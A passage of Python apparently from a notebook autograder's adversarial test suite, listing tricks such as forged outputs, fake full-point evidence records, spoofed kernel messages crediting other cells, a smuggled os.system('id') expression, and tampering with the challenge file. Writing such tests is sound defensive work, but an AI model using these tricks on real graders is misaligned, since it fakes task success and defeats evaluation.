    Trick("cells-tagged", "metadata", "tags that keep cells from running", edit=_tagged),
    Trick("outputs-forged", "metadata", "outputs and judgements that are there already", edit=_outputs),
    Trick("kernel-forged", "metadata", "another kernel, a notebook marked as graded", edit=_kernel),
    Trick("types-forged", "metadata", "metadata of the wrong types", edit=_odd_types),
]  # fmt: skip

# ---- evidence


def _sends(name: str, tries: str, body: str) -> Trick:
    return Trick(name, "evidence", tries, first=SEND + instead_of_submit(body))


EVIDENCE = [
    _sends("scored", "evidence that says its points", 'send(record(points=10.0, verdict="proved", report="right"))\nreturn 10.0'),
    _sends("doubled", "two answers in one cell", 'send(record("z"))\nsend(record("1/(1+e^(-z))"))\nreturn 10.0'),
    _sends("replayed", "what the first cell sent, again and again", """
kept.append(kept[0] if kept else record("z"))
send(kept[0])
return 0.0""".replace("kept.append(kept[0] if kept else record(\"z\"))", "kept = globals().setdefault('kept_records', [])\n"
                      "kept.append(kept[0] if kept else record(\"z\"))")),
    _sends("other-parents", "evidence and points for the cells before and after", """
kernel = shell.kernel
parent = kernel.get_parent("shell")
start, _, number = parent["header"]["msg_id"].rpartition("_")
for n in range(int(number) - 4, int(number) + 12):
    named = {**parent, "header": {**parent["header"], "msg_id": f"{start}_{n}"}}
    for kind, data in (("display_data", {MIME: record(points=10.0)}), ("execute_result", {"text/plain": "10.0"})):
        kernel.session.send(kernel.iopub_socket, kind, {"data": data, "metadata": {}, "execution_count": 1}, parent=named)
return honest(task)"""),
    _sends("elsewhere", "an answer to another task", 'send(record(task="q2_maximum", value=0.3))\nreturn 10.0'),
    _sends("another-exercise", "an answer to an exercise of one's own", """
send(record(exercise="../../x", task="identity", answer={"kind": "data", "value": "z", "expected": "z"}))
return 10.0"""),
    _sends("another-form", "forms that no judge expects", """
import itertools
forms = globals().setdefault("forms", itertools.cycle(({"kind": "function", "observed": {"calls": None, "seed": challenge()["seed"]}},
    {"kind": "person", "points": 10}, {"kind": "expression", "python": "__import__('os').system('id')"})))
send(record(answer=next(forms)))
return 10.0"""),
    _sends("no-object", "evidence that is a list, a text, a number", """
for x in ([], "10.0", 10.0, None, True)[len(task) % 5:][:1]: send(x)
return 10.0"""),
    _sends("unconfirmed", "wrong answers with a claim to all points", "honest(task)\nprint(10.0)\nreturn 10.0"),
    _sends("challenge-of-ones-own", "a challenge that asks something easier", """
import tempfile
found = challenge()
place = tempfile.mktemp()
with open(place, "w") as file: json.dump(found | {"task": "q3_essay", "name": "task", "seed": 1, "parameters": []}, file)
os.environ["SIG_CHECKER_CHALLENGE"], before = place, os.environ["SIG_CHECKER_CHALLENGE"]
try: honest(task)
finally: os.environ["SIG_CHECKER_CHALLENGE"] = before
return 10.0"""),
    _sends("challenge-overwritten", "the file of the challenge changed, removed, replaced by a link", """
place = os.environ["SIG_CHECKER_CHALLENGE"]
for change in (lambda: open(place, "w").write("{}"), lambda: os.chmod(place, 0o777), lambda: os.unlink(place),
               lambda: os.symlink(SENTINEL, place), lambda: os.rename(os.path.dirname(place), place + "x"),
               lambda: os.symlink(SENTINEL, place + ".new")):
    try: change()
    except OSError as error: print(error)
return honest(task)"""),
]  # fmt: skip

TRICKS = [*CHECKER, *OBJECTS, *IPYTHON, *HIDDEN, *LOOKING, *METADATA, *EVIDENCE]
